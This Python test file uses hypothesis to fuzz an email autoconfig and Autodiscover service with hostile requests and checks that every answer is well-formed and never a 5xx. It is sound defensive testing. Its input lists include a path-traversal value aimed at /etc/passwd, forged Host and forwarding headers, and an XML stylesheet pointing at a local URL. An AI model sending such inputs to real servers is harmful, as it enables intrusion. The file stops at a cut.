"""Hostile input against every endpoint (docs/http.md), with hypothesis.

Random methods, paths, query strings, headers and bodies never make the service
answer 5xx; every answer is well-formed for its content type, and the content
type is the one the endpoint documents for that status (the table ANSWERS).
XML attacks on the POX endpoint are refused with ErrorCode 600, quickly, without
reading a file or the network, and without memory growth.
"""

from __future__ import annotations

import gc
import io
import json
import plistlib
import re
import select
import socket
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from lxml import etree
from werkzeug.middleware.proxy_fix import ProxyFix
from werkzeug.test import Client, EnvironBuilder, TestResponse
from werkzeug.wrappers import Response

from autoconf.address import normalize_domain
from autoconf.app import create_app
from autoconf.errors import BadRequest
from autoconf.pipeline import check_host
from autoconf.render.autodiscover import (
    NS_MOBILESYNC_REQUEST,
    NS_MOBILESYNC_RESPONSE,
    NS_OUTLOOK_REQUEST,
    NS_OUTLOOK_RESPONSE,
    NS_RESPONSE,
)
from autoconf.settings import Settings
from tests.conftest import EXAMPLES

XML = "text/xml; charset=utf-8"
JSON = "application/json"
APPLE = "application/x-apple-aspen-config"
TEXT = "text/plain; charset=utf-8"

# What each endpoint answers (docs/http.md#methods): the methods it has, and for each status
# it may answer, the content type of that answer. Decided per endpoint:
# - autoconfig: the clientConfig XML, or a one-line text/plain reason;
# - pox: always XML, errors too (600/601 with HTTP 200, 500 with 404, 413 with 600);
# - json (both forms): always JSON, errors as {"ErrorCode", "ErrorMessage"};
# - mobileconfig: the profile, or a one-line text/plain reason;
# - healthz: JSON;
# - wellknown (/.well-known/caldav and carddav): a 307 whose one-line text/plain body
#   is its Location, or a one-line text/plain reason;
# - other paths: 404 in text/plain, whatever the method.
# What routing refuses before any view runs is text/plain (a 4xx with a short
# reason, docs/http.md#errors): a method the path does not have (405), and a v2 path whose
# address Werkzeug's <path:...> does not match (empty, a leading "/", a line
# feed in it: 404, as any unknown path).
# A path with repeated slashes that names an endpoint once they are merged is
# redirected there (308, Werkzeug's merge_slashes), HTML body.
# A Host that names no host (characters no host name has, IDNA errors such as
# xn--zz, empty or over-long labels, a bad port), as the request arrives or as a
# trusted proxy's X-Forwarded-* make it, is refused before routing, on every path:
# 400 in text/plain, or in the client endpoint's own format (pox: ErrorCode 600
# with HTTP 200; json: 400 InvalidRequest). See host_refusal.
# OPTIONS is answered on every endpoint: 200, an empty body and an Allow header.
# HEAD is GET without the body.
ANSWERS: dict[str, tuple[frozenset[str], dict[int, str]]] = {
    "autoconfig": (frozenset({"GET", "HEAD"}), {200: XML, 400: TEXT, 404: TEXT}),
    "pox": (frozenset({"POST"}), {200: XML, 404: XML, 413: XML}),
    "json": (frozenset({"GET", "HEAD"}), {200: JSON, 400: JSON, 404: JSON}),
    "mobileconfig": (frozenset({"GET", "HEAD"}), {200: APPLE, 400: TEXT, 404: TEXT}),
    "healthz": (frozenset({"GET", "HEAD"}), {200: JSON}),
    "wellknown": (frozenset({"GET", "HEAD", "PROPFIND"}), {307: TEXT, 400: TEXT, 404: TEXT}),
    "other": (frozenset(), {404: TEXT}),
}
# A refused method: 405 in the endpoint's own error format.
METHOD_REFUSED = {"pox": {405: XML}, "json": {405: JSON}}
# A POX error code and the HTTP statuses it comes with.
POX_STATUSES = {"600": {200, 405, 413}, "601": {200}, "500": {404}}
JSON_ERRORS = {
    400: {"InvalidRequest", "InvalidProtocol"},
    404: {"NotFound"},
    405: {"InvalidRequest"},
}
MAX_REASON = 200  # a reason is shorter than this, as tests/test_web.py holds it

AUTOCONFIG_PATHS = ("/mail/config-v1.1.xml", "/.well-known/autoconfig/mail/config-v1.1.xml")
POX_PATH = "/autodiscover/autodiscover.xml"
JSON_PATH = "/autodiscover/autodiscover.json"
WELL_KNOWN_PATHS = ("/.well-known/caldav", "/.well-known/carddav")
NS = {"r": NS_RESPONSE}
SAFE_PARSER = etree.XMLParser(
    resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False
)
EXPOSED = {"Protocol", "Url"}

HYPOTHESIS = settings(
    derandomize=True,
    database=None,
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def _app(**overrides: object) -> Client:
    app = create_app(Settings(domains=EXAMPLES, **overrides))  # type: ignore[arg-type]
    return app.test_client()


@pytest.fixture(scope="module")
def clients() -> dict[bool, Client]:
    """The example domains served directly, and behind one trusted proxy hop."""
    return {False: _app(), True: _app(proxy_hops=1)}


# ---------------------------------------------------------------------------
# Hostile addresses


KNOWN_DOMAINS = (
    "example.com",
    "example.net",
    "EXAMPLE.COM.",
    "example.org",
    "shop.example",
    "müller.example",
    "MÜLLER.Example.",
    "xn--mller-kva.example",
    "a.customers.example.org",
)
ODD_DOMAINS = (
    "",
    " ",
    ".",
    "..",
    "unknown.example",
    "localhost",
    "com",
    "example.com..",
    ".example.com",
    "exa mple.com",
    "example.com\x00",
    "example.com\n",
    " example.com",
    "[127.0.0.1]",
    "127.0.0.1",
    "xn--.example",
    "xn--zz.example",
    "مثال.example",  # right to left
    "\u202eelpmaxe.com",  # RIGHT-TO-LEFT OVERRIDE
    "例え.テスト",
    "ß.example",
    "-a.example",
    "a-.example",
    "a\u200db.example",  # ZERO WIDTH JOINER
    "%65xample.com",
    "example.com%00",
    "example.com/../x",
    "a" * 64 + ".example",
    "a." * 130 + "example",
    "ä" * 300 + ".example",
    "a\u0300" * 40 + ".com",
)
LOCAL_PARTS = (
    "alice",
    "Alice.Smith",
    "a+tag",
    "<b>&amp;'\"",
    "]]>",
    '"quoted @ local"',
    '"a\\"b"',
    '" "',
    '""',
    '"',
    ".a",
    "a.",
    "a..b",
    "ñandú",
    "用户",
    "\u202eecila",
    "a\x00b",
    "a\tb",
    "a b",
    "a\u2028b",
    "a\x7f",
    "a\x85b",
    "a\ufffeb",
    "%41lice",
    "alice%00",
    "a" * 64,
    "a" * 65,
    "é" * 32,
    "é" * 33,
    "a" * 10_000,
    '"' + "a" * 10_000 + '"',
)
domains = st.one_of(
    st.sampled_from(KNOWN_DOMAINS),
    st.sampled_from(ODD_DOMAINS),
    st.text(max_size=40),
    st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=4).map(".".join),
)
local_parts = st.one_of(
    st.sampled_from(LOCAL_PARTS),
    st.text(max_size=80),
    st.text(max_size=40).map(lambda s: f'"{s}"'),
    st.builds(
        lambda char, count: char * count,
        st.sampled_from(["a", "é", "\x00", ".", "@", " ", "\u05d0"]),
        st.sampled_from([63, 64, 65, 10_000]),
    ),
)
# Local parts the service accepts, hostile all the same: markup, quotes, bidi, 64 octets.
GOOD_LOCAL_PARTS = (
    "alice",
    "Alice.Smith",
    "a+tag",
    "%EMAILDOMAIN%",
    "a&b'c",
    '"<b>&amp;]]>\'"',
    '"quoted @ <local>"',
    '"a\\"b"',
    '" "',
    '""',
    "ñandú",
    "用户",
    "\u202eecila",
    "\U0001f4e7",
    "a" * 64,
    "é" * 32,
)
simple_addresses = st.builds(lambda local, domain: f"{local}@{domain}", local_parts, domains)
plausible_addresses = st.builds(
    lambda local, domain: f"{local}@{domain}",
    st.sampled_from(GOOD_LOCAL_PARTS),
    st.sampled_from(KNOWN_DOMAINS),
)
# Weighted by hand (hypothesis's one_of favours some branches): about four in ten
# plausible, three in ten one "@" between hostile parts, the rest anything.
addresses = st.sampled_from(
    [plausible_addresses] * 4
    + [simple_addresses] * 3
    + [
        st.lists(st.one_of(local_parts, domains), min_size=3, max_size=5).map("@".join),
        st.sampled_from(
            [
                "",
                " ",
                "\t",
                "\n",
                "@",
                "@@",
                "@example.com",
                "alice@",
                " alice@example.com ",
                "alice@example.com\n",
                "alice@@example.com",
                "a@b@example.com",
                "alice%40example.com",
                "alice@example.com%00",
            ]
        ),
        st.text(max_size=60),
        simple_addresses.map(lambda a: quote(a, safe="")),  # percent-encoded twice on the wire
    ]
).flatmap(lambda strategy: strategy)

# ---------------------------------------------------------------------------
# Query strings

# Percent-encodings that do not decode to UTF-8 text, or decode to something nasty.
RAW_PIECES = (
    "%",
    "%zz",
    "%0",
    "%00",
    "%FF",
    "%C0%80",
    "%ED%A0%80",
    "%E2%80%AE",
    "%2540",
    "+",
    "%20",
    "&",
    "=",
    ";",
)
PROTOCOLS = ("AutodiscoverV1", "autodiscoverv1", "ActiveSync", " activesync ", "Ews", "", "\x00")
EMAIL_PARAMS = ("emailaddress", "EmailAddress", "EMAILADDRESS", "Email", "email", "emailAddress")


@st.composite
def encoded(draw: st.DrawFn, value: str) -> str:
    """``value`` as it may appear in a URL: quoted, plus-quoted, raw, or with raw pieces."""
    how = draw(st.sampled_from(["quote", "quote", "quote", "plus", "raw", "pieces"]))
    if how == "quote":
        return quote(value, safe="")
    if how == "plus":
        return quote(value, safe="@").replace("%20", "+")
    if how == "raw":
        return value
    pieces = draw(st.lists(st.sampled_from(RAW_PIECES), min_size=1, max_size=3))
    cut = draw(st.integers(0, len(value)))
    return quote(value[:cut], safe="@") + "".join(pieces) + quote(value[cut:], safe="@")


email_params = st.tuples(st.sampled_from(EMAIL_PARAMS), addresses)
protocol_params = st.tuples(st.sampled_from(["Protocol", "protocol"]), st.sampled_from(PROTOCOLS))
query_params = st.one_of(
    email_params,
    protocol_params,
    st.tuples(st.sampled_from(["Protocol", "lang", "x", ""]), st.text(max_size=30)),
    st.tuples(st.text(max_size=10), st.text(max_size=30)),
)


@st.composite
def query_strings(draw: st.DrawFn, route: str = "other") -> str:
    """Random parameters; most often led by the ones the route reads."""
    pairs = []
    if route != "other" and draw(st.integers(0, 3)):
        pairs.append(draw(email_params))
        if route.startswith("json"):
            pairs.append(draw(protocol_params))
    pairs += draw(st.lists(query_params, max_size=3))
    return "&".join(f"{draw(encoded(name))}={draw(encoded(value))}" for name, value in pairs)


# ---------------------------------------------------------------------------
# Headers: what a server hands the application is Latin-1 text without CR/LF.

latin1 = st.text(st.characters(max_codepoint=255, exclude_characters="\r\n"), max_size=60)
# (No lone surrogates: they have no UTF-8 form, and a client cannot send one.)
utf8_as_latin1 = st.text(
    st.characters(exclude_characters="\r\n", exclude_categories=("Cs",)), max_size=30
).map(lambda s: s.encode("utf-8").decode("latin-1"))
ODD_HOSTS = (
    "",
    " ",
    "example.com",
    "EXAMPLE.COM.",
    "autoconfig.example.com",
    "autodiscover.example.org:443",
    "autoconfig.müller.example",
    "autoconfig.xn--mller-kva.example",
    "autoconfig.müller.example".encode().decode("latin-1"),
    "autodiscover.مثال.example".encode().decode("latin-1"),
    "[::1]",
    "[::1]:80",
    "[::1",
    "127.0.0.1",
    "example.com:99999",
    "example.com:abc",
    "example.com:",
    ":80",
    "a:b:c",
    "exa mple.com",
    "example.com\x00",
    "ex%41mple.com",
    "..",
    "autoconfig.",
    "autodiscover.com",
    "x.customers.example.org",
    "@example.com",
    "user:pass@example.com",
    "example.com/path",
    "example.com?x",
    "a" * 5000,
    "a." * 2000 + "com",
)
host_values = st.one_of(st.sampled_from(ODD_HOSTS), latin1, utf8_as_latin1)
HEADER_VALUES = {
    "Host": host_values,
    "X-Forwarded-Host": host_values,
    "X-Forwarded-Proto": st.one_of(st.sampled_from(["https", "http", "gopher", ""]), latin1),
    "X-Forwarded-Port": st.one_of(st.sampled_from(["443", "0", "99999", "-1", "x"]), latin1),
    "X-Forwarded-For": st.one_of(st.sampled_from(["127.0.0.1", "::1, 10.0.0.1", ""]), latin1),
    "Authorization": st.one_of(
        st.sampled_from(
            [
                "Basic YWxpY2U6c2VjcmV0",
                "Basic !!!",
                "Basic",
                "Bearer",
                "Negotiate YII=",
                "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==",
            ]
        ),
        latin1,
        utf8_as_latin1,
    ),
    "Content-Type": st.one_of(
        st.sampled_from(
            [
                "text/xml",
                "text/xml; charset=utf-16",
                "text/xml; charset=bogus",
                "application/xml",
                "application/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data",
                "multipart/form-data; boundary=x",
                "",
            ]
        ),
        latin1,
    ),
    "Accept-Language": st.one_of(st.sampled_from(["de", "en;q=0.1, *", "*;q=x"]), latin1),
    "Accept": st.one_of(st.sampled_from(["application/json", "*/*", "text/xml"]), latin1),
    "X-Anything": utf8_as_latin1,
}
headers = st.lists(
    st.sampled_from(sorted(HEADER_VALUES)).flatmap(
        lambda name: st.tuples(st.just(name), HEADER_VALUES[name])
    ),
    max_size=5,
)

# ---------------------------------------------------------------------------
# Bodies


def xml_escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def pox(email: str, namespace: str = NS_OUTLOOK_REQUEST, schema: str = NS_OUTLOOK_RESPONSE) -> str:
    return (
        f'<Autodiscover xmlns="{namespace}"><Request>'
        f"<EMailAddress>{email}</EMailAddress>"
        f"<AcceptableResponseSchema>{schema}</AcceptableResponseSchema>"
        "</Request></Autodiscover>"
    )


DECL = '<?xml version="1.0" encoding="utf-8"?>\n'
VALID_POX = (DECL + pox("alice@example.com")).encode()


@st.composite
def pox_bodies(draw: st.DrawFn) -> bytes:
    """Something like an Outlook request, with a hostile address and odd framing."""
    email = draw(addresses)
    how = draw(st.sampled_from(["escaped", "raw", "charrefs"]))
    if how == "escaped":
        email = xml_escape(email)
    elif how == "charrefs":
        email = "".join(f"&#x{ord(c):x};" for c in email)
    namespace = draw(
        st.sampled_from([NS_OUTLOOK_REQUEST, NS_MOBILESYNC_REQUEST, NS_RESPONSE, "", "urn:x"])
    )
    schema = draw(
        st.one_of(
            st.sampled_from([NS_OUTLOOK_RESPONSE, NS_MOBILESYNC_RESPONSE, "", " x "]),
            st.text(max_size=30).map(xml_escape),
        )
    )
    prefix = draw(
        st.sampled_from(
            [
                "",
                '<?xml version="1.0" encoding="utf-8"?>\n',
                '<?xml version="1.0" encoding="utf-16"?>',
                '<?xml version="1.1"?>',
                "<?xml-stylesheet href='http://127.0.0.1:1/x.xsl'?>",
                "<!-- a comment -->",
                "\ufeff",
                " \n",
                "junk",
            ]
        )
    )
    text = prefix + pox(email, namespace, schema) + draw(st.sampled_from(["", "\n", "<x/>", "&"]))
    codec = draw(st.sampled_from(["utf-8", "utf-16", "utf-16-le", "latin-1", "ascii"]))
    body = text.encode(codec, "xmlcharrefreplace")
    if draw(st.booleans()):
        return body
    return body[: draw(st.integers(0, len(body)))]


def _repeat(seed: bytes, size: int) -> bytes:
    return (seed * (size // len(seed) + 1))[:size]


LIMIT = 64 * 1024
bodies = st.one_of(
    st.just(b""),
    st.binary(max_size=512),
    st.text(max_size=200).map(str.encode),
    pox_bodies(),
    pox_bodies(),
    st.builds(
        _repeat, st.binary(min_size=1, max_size=4), st.sampled_from([LIMIT, LIMIT + 1, 100_000])
    ),
    # A good request padded to the limit, and one byte past it.
    st.sampled_from([LIMIT, LIMIT + 1]).map(lambda n: VALID_POX + b" " * (n - len(VALID_POX))),
)

# ---------------------------------------------------------------------------
# Requests

METHODS = ("GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND")
methods = st.one_of(
    st.sampled_from(METHODS), st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=1, max_size=10)
)


def any_case(text: str) -> st.SearchStrategy[str]:
    return st.lists(st.booleans(), min_size=len(text), max_size=len(text)).map(
        lambda flips: "".join(c.upper() if f else c for c, f in zip(text, flips, strict=True))
    )


ROUTED = {*AUTOCONFIG_PATHS, *WELL_KNOWN_PATHS, "/mobileconfig", "/healthz", "/", "/metrics"}
OTHER_PATHS = (
    "/nothing-here",
    "/admin",
    "/reload",
    "/mail/config-v1.1.xml/",
    "/mail/config-v1.1.XML",
    "/.well-known/autoconfig/",
    "/autodiscover/",
    "/autodiscover/autodiscover.xml/extra",
    "/Autodiscover/Autodiscover.xml.bak",
    "/mobileconfig/",
    "/healthz/",
    "/HEALTHZ",
    "/%2e%2e/etc/passwd",
    "/..",
    "/%00",
)


def is_routed(path: str) -> bool:
    """Whether a path reaches an endpoint (the same view, or one the tests leave to others)."""
    plain = unquote(path, errors="replace")
    lowered = plain.lower()
    return (
        plain in ROUTED
        or lowered in (POX_PATH, JSON_PATH)
        or lowered.startswith(JSON_PATH + "/")
        or plain.startswith("/?")
    )


other_paths = st.one_of(
    st.sampled_from(OTHER_PATHS),
    st.tuples(st.sampled_from(OTHER_PATHS), st.text(max_size=20)).map(
        lambda p: p[0] + quote(p[1], safe="/@")
    ),
    st.text(min_size=1, max_size=40).map(lambda s: "/" + quote(s, safe="@")),
).filter(lambda p: not is_routed(p))


def path_converter_matches(value: str) -> bool:
    """Werkzeug's <path:...> is ``[^/].*?``: a first character that is no slash, then no
    line feed (``.`` stops there). A value it does not match leaves the path unrouted."""
    return bool(value) and value[0] != "/" and "\n" not in value[1:]


@dataclass(frozen=True)
class Case:
    kind: str  # a key of ANSWERS
    method: str
    path: str
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    proxied: bool = False  # behind one trusted proxy hop (X-Forwarded-* honoured)
    chunked: bool = False  # the body without a Content-Length, as a server de-chunks it

    def __repr__(self) -> str:  # a 100 KiB body would drown the report
        body = self.body if len(self.body) <= 300 else self.body[:300] + b"..."
        return (
            f"Case(kind={self.kind!r}, method={self.method!r}, path={self.path!r}, "
            f"query={self.query!r}, headers={self.headers!r}, body={body!r} "
            f"({len(self.body)} bytes), proxied={self.proxied!r}, chunked={self.chunked!r})"
        )


@st.composite
def cases(draw: st.DrawFn) -> Case:
    route = draw(
        st.sampled_from(
            [
                "autoconfig",
                "pox",
                "json",
                "json-v1",
                "mobileconfig",
                "healthz",
                "wellknown",
                "other",
            ]
        )
    )
    kind = route
    if route == "autoconfig":
        path = draw(st.sampled_from(AUTOCONFIG_PATHS))
    elif route == "pox":
        path = draw(any_case(POX_PATH))
    elif route == "json":
        path = draw(any_case(JSON_PATH))
    elif route == "json-v1":
        raw = draw(addresses)
        safe = draw(st.sampled_from(["@", "@/", "@/%"]))
        email = quote(raw, safe=safe) + draw(st.sampled_from(["", "", "%FF", "%00", "/x"]))
        path = draw(any_case(JSON_PATH)) + "/v1.0/" + email
        kind = "json" if path_converter_matches(unquote(email, errors="replace")) else "other"
    elif route in ("mobileconfig", "healthz"):
        path = "/" + route
    elif route == "wellknown":
        path = draw(st.sampled_from(WELL_KNOWN_PATHS))
    else:
        path = draw(other_paths)
    main = "POST" if route == "pox" else "GET"
    method = draw(st.one_of(st.just(main), st.just(main), methods))
    return Case(
        kind=kind,
        method=method,
        path=path,
        query=draw(query_strings(route)),
        headers=tuple(draw(headers)),
        body=draw(bodies),
        proxied=draw(st.booleans()),
        chunked=draw(st.booleans()),
    )


def send(clients: dict[bool, Client], case: Case) -> TestResponse:
    client = clients[case.proxied]
    if case.chunked:
        return client.open(
            case.path,
            method=case.method,
            query_string=case.query,
            headers=[*case.headers, ("Transfer-Encoding", "chunked")],
            input_stream=io.BytesIO(case.body),
            environ_overrides={"wsgi.input_terminated": True},
        )
    return client.open(
        case.path,
        method=case.method,
        query_string=case.query,
        headers=list(case.headers),
        data=case.body,
    )


# ---------------------------------------------------------------------------
# What an answer must be


def check_text(data: bytes) -> None:
    text = data.decode("utf-8")
    assert text.endswith("\n") and text.count("\n") == 1, text
    reason = text[:-1]
    assert reason and reason.isprintable(), text


def pox_code(root: etree._Element) -> str | None:
    """The ErrorCode of a POX answer, or None when it is a settings answer."""
    assert root.tag == f"{{{NS_RESPONSE}}}Autodiscover"
    return root.findtext("r:Response/r:Error/r:ErrorCode", namespaces=NS)


def check_pox(status: int, data: bytes) -> None:
    root = etree.fromstring(data, SAFE_PARSER)
    code = pox_code(root)
    if code is None:
        assert status == 200
        responses = [etree.QName(e).namespace for e in root]
        assert responses in ([NS_OUTLOOK_RESPONSE], [NS_MOBILESYNC_RESPONSE])
        return
    assert status in POX_STATUSES[code], (status, code)
    message = root.findtext("r:Response/r:Error/r:Message", namespaces=NS)
    assert message


def check_body(kind: str, status: int, content_type: str, response: TestResponse) -> None:
    data = response.get_data()
    if content_type == TEXT:
        check_text(data)
    elif content_type == XML and kind == "pox":
        check_pox(status, data)
    elif content_type == XML:
        root = etree.fromstring(data, SAFE_PARSER)
        assert root.tag == "clientConfig" and root.get("version") == "1.2"
        assert root.find("emailProvider") is not None
    elif content_type == JSON and kind == "json":
        answer = json.loads(data)
        if status == 200:
            assert set(answer) == EXPOSED and all(isinstance(v, str) for v in answer.values())
        else:
            assert answer["ErrorCode"] in JSON_ERRORS[status], answer
            assert isinstance(answer["ErrorMessage"], str) and answer["ErrorMessage"]
    elif content_type == JSON:
        answer = json.loads(data)
        assert answer["status"] in ("ok", "degraded")
    else:
        assert content_type == APPLE
        profile = plistlib.loads(data)
        assert profile["PayloadType"] == "Configuration"
        assert profile["PayloadContent"][0]["PayloadType"] == "com.apple.mail.managed"
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="[a-z0-9.-]+\.mobileconfig"', disposition)


def host_refusal(case: Case) -> str | None:
    """Why the service must refuse the case's Host, or None: the Host the request
    carries, as one trusted proxy's X-Forwarded-* make it, through the service's check."""
    environ = EnvironBuilder(
        path=case.path, method=case.method, query_string=case.query, headers=list(case.headers)
    ).get_environ()
    seen: list[dict[str, Any]] = []
    if case.proxied:
        ProxyFix(lambda e, _: seen.append(e) or [], x_for=1, x_proto=1, x_host=1, x_port=1)(
            environ, lambda *_: None
        )
        environ = seen[0]
    try:
        check_host(environ)
    except BadRequest as exc:
        return exc.reason
    return None


def merged(path: str) -> str:
    return re.sub("/{2,}", "/", path)


def check(case: Case, response: TestResponse) -> None:
    status = response.status_code
    assert status < 500, response.get_data()[:500]
    allowed, table = ANSWERS[case.kind]
    refusal = host_refusal(case)
    if refusal is not None:
        content_type = response.headers["Content-Type"]
        if case.kind == "pox":
            assert (status, content_type) == (200, XML)
        else:
            assert status == 400
            assert content_type == (JSON if case.kind == "json" else TEXT)
        if case.method != "HEAD":
            check_body(case.kind, status, content_type, response)
            assert reason_of(response) == refusal
        return
    if case.kind != "other" and case.method == "OPTIONS":
        assert status == 200 and response.get_data() == b""
        assert {*allowed, "OPTIONS"} <= set(response.headers["Allow"].split(", "))
        return
    if case.kind != "other" and case.method not in allowed:
        table = METHOD_REFUSED.get(case.kind, {405: TEXT})
    assert status in table, (status, response.get_data()[:500])
    content_type = response.headers.get("Content-Type")
    assert content_type == table[status], (status, content_type)
    if case.method == "HEAD":
        assert response.get_data() == b""
    else:
        check_body(case.kind, status, content_type, response)
    if status == 307:  # a URL a header can carry, the one the body names
        location = response.headers["Location"]
        assert location.isascii() and location.isprintable() and " " not in location
        assert urlsplit(location).scheme in ("https", "http")
        if case.method != "HEAD":
            assert response.get_data(as_text=True) == location + "\n"


# ---------------------------------------------------------------------------
# Properties


@HYPOTHESIS
@given(case=cases())
@example(  # the smallest request of all
    case=Case(kind="autoconfig", method="GET", path=AUTOCONFIG_PATHS[0])
)
@example(  # a 10,000-character local part, its "@" percent-encoded
    case=Case(
        kind="mobileconfig",
        method="GET",
        path="/mobileconfig",
        query="emailaddress=" + "a" * 10_000 + "%40example.com",
    )
)
@example(  # a quoted local part with markup in it reaches the XML and the profile
    case=Case(
        kind="mobileconfig",
        method="GET",
        path="/mobileconfig",
        query="emailaddress=" + quote('"<a>&]]>\' @"@müller.example', safe=""),
    )
)
@example(
    case=Case(
        kind="pox",
        method="POST",
        path="/AutoDiscover/AUTODISCOVER.xml",
        body=pox('"&lt;a&gt;&amp;]]&gt;"@EXAMPLE.COM.').encode("utf-16"),
    )
)
@example(
    case=Case(
        kind="json",
        method="GET",
        path=JSON_PATH + "/v1.0/%E2%80%AEalice@example.com%FF",
        query="Protocol=%00",
    )
)
@example(  # a chunked body has no length to refuse up front
    case=Case(kind="pox", method="POST", path=POX_PATH, body=VALID_POX + b" " * LIMIT, chunked=True)
)
def test_every_endpoint_answers_hostile_requests_well(
    clients: dict[bool, Client], case: Case
) -> None:
    response = send(clients, case)
    check(case, response)
    event(f"{case.kind} {response.status_code} {outcome(response)}")


def outcome(response: TestResponse) -> str:
    """What kind of answer it was, for --hypothesis-show-statistics."""
    data = response.get_data()
    if response.content_type == XML and b"<ErrorCode>" in data:
        return "ErrorCode " + data.split(b"<ErrorCode>")[1].split(b"<")[0].decode()
    if response.content_type == JSON and b'"ErrorCode"' in data:
        return str(json.loads(data)["ErrorCode"])
    return response.content_type or ""


ADDRESS_FORMS = ("autoconfig", "well-known", "json", "json-v1", "mobileconfig", "pox", "mobilesync")


def address_case(address: str, form: str) -> Case:
    """One request carrying ``address`` exactly (percent-encoded, or escaped in XML)."""
    query = "emailaddress=" + quote(address, safe="")
    if form in ("autoconfig", "well-known"):
        path = AUTOCONFIG_PATHS[form == "well-known"]
        return Case(kind="autoconfig", method="GET", path=path, query=query)
    if form == "mobileconfig":
        return Case(kind="mobileconfig", method="GET", path="/mobileconfig", query=query)
    if form == "json":
        query = f"Email={quote(address, safe='')}&Protocol=AutodiscoverV1"
        return Case(kind="json", method="GET", path=JSON_PATH, query=query)
    if form == "json-v1":
        path = f"{JSON_PATH}/v1.0/{quote(address, safe='@')}"
        kind = "json" if path_converter_matches(address) else "other"
        return Case(kind=kind, method="GET", path=path, query="Protocol=ActiveSync")
    namespace, schema = (
        (NS_OUTLOOK_REQUEST, NS_OUTLOOK_RESPONSE)
        if form == "pox"
        else (NS_MOBILESYNC_REQUEST, NS_MOBILESYNC_RESPONSE)
    )
    body = (DECL + pox(xml_escape(address), namespace, schema)).encode("utf-8", "surrogatepass")
    return Case(kind="pox", method="POST", path=POX_PATH, body=body)


def echoed(case: Case, response: TestResponse) -> list[str]:
    """The address or login texts a 200 answer fills in, read back from the parsed document."""
    data = response.get_data()
    if case.kind == "mobileconfig":
        return [str(plistlib.loads(data)["PayloadContent"][0]["EmailAddress"])]
    root = etree.fromstring(data, SAFE_PARSER)
    tags = ("AutoDiscoverSMTPAddress", "EMailAddress", "username")
    return [e.text or "" for e in root.iter() if etree.QName(e).localname in tags]


@HYPOTHESIS
@given(address=addresses, form=st.sampled_from(ADDRESS_FORMS))
@example(address="a" * 10_000 + "@example.com", form="pox")
@example(address="a@b@c@example.com", form="json-v1")
@example(address='"quoted @ <local>"@müller.example', form="mobileconfig")
@example(address="\u202eecila@\u0645\u062b\u0627\u0644.example", form="autoconfig")
@example(address="<b>&amp;'\"@EXAMPLE.COM.", form="mobilesync")
def test_hostile_addresses_on_every_endpoint(
    clients: dict[bool, Client], address: str, form: str
) -> None:
    """An address is refused with a 4xx, or its local part comes back intact in the answer."""
    case = address_case(address, form)
    response = send(clients, case)
    check(case, response)
    event(f"{form} {response.status_code} {outcome(response)}")
    if response.status_code == 200 and case.kind != "json" and not is_pox_error(response):
        local = (address.strip() if case.kind == "pox" else address).rpartition("@")[0]
        texts = echoed(case, response)
        assert local in texts or any(t.startswith(local + "@") for t in texts), texts


def is_pox_error(response: TestResponse) -> bool:
    return response.content_type == XML and b"<ErrorCode>" in response.get_data()


def reason_of(response: TestResponse) -> str:
    """The reason a refusal gives, in whichever format it comes."""
    data = response.get_data()
    if response.content_type == JSON:
        return str(json.loads(data)["ErrorMessage"])
    if response.content_type == XML:
        root = etree.fromstring(data, SAFE_PARSER)
        return root.findtext("r:Response/r:Error/r:DebugData", namespaces=NS) or ""
    return data.decode("utf-8").rstrip("\n")


@HYPOTHESIS
@given(address=addresses, form=st.sampled_from(ADDRESS_FORMS))
@example(  # found by hypothesis: 202 characters
    address="0@0000000000\x1f\x1f\x1f\x1f\x08\U00018cd6\U00018d09\U0001b2fc",
    form="mobileconfig",
)
@example(address="a@" + "\U0001b2fc" * 300 + ".com", form="autoconfig")  # 3,886 characters
@example(address="a@" + "\x08" * 80, form="pox")
def test_refusals_give_a_short_reason(clients: dict[bool, Client], address: str, form: str) -> None:
    """docs/http.md#errors: a 4xx (or error document) with a short, one-line reason."""
    response = send(clients, address_case(address, form))
    if response.status_code == 200 and not is_pox_error(response):
        return
    reason = reason_of(response)
    event(f"{form} reason of {len(reason) // 100 * 100}+ characters")
    assert 0 < len(reason) < MAX_REASON, f"{len(reason)} characters: {reason[:300]}…"


@HYPOTHESIS
@given(
    path=st.one_of(
        st.sampled_from([*AUTOCONFIG_PATHS, "/mobileconfig", "/healthz", JSON_PATH]),
        any_case(POX_PATH),
    ),
    method=methods.filter(lambda m: m not in ("GET", "HEAD", "POST", "OPTIONS")),
)
@example(path=POX_PATH, method="PUT")
def test_a_refused_method_names_the_allowed_ones(
    clients: dict[bool, Client], path: str, method: str
) -> None:
    """RFC 9110 15.5.6: a 405 answer MUST carry an Allow header."""
    response = clients[False].open(path, method=method)
    assert response.status_code == 405
    pox = path.lower() == POX_PATH
    wanted = XML if pox else JSON if path == JSON_PATH else TEXT
    assert response.content_type == wanted
    allow = {m.strip() for m in response.headers.get("Allow", "").split(",")}
    assert ("POST" if pox else "GET") in allow and method not in allow, dict(response.headers)


def direct_get(client: Client, path: str, host: str) -> Response:
    """GET through the WSGI app itself. Werkzeug's test client works out the request's
    URL again after the answer, and raises on hosts such as "XN--" that the app
    has already answered (with a 400)."""
    environ = EnvironBuilder(path=path, headers={"Host": host}).get_environ()
    started: list[Any] = []
    body = b"".join(client.application(environ, lambda *args: started.append(args)))
    status, headers = started[0][0], started[0][1]
    return Response(body, status=int(status.split()[0]), headers=headers)


V1_QUERY = JSON_PATH + "?Email=alice@example.com&Protocol=AutodiscoverV1"
V1_PATH = JSON_PATH + "/v1.0/alice@example.com?Protocol=autodiscoverv1"


@HYPOTHESIS
@given(host=host_values, path=st.sampled_from([V1_QUERY, V1_PATH]))
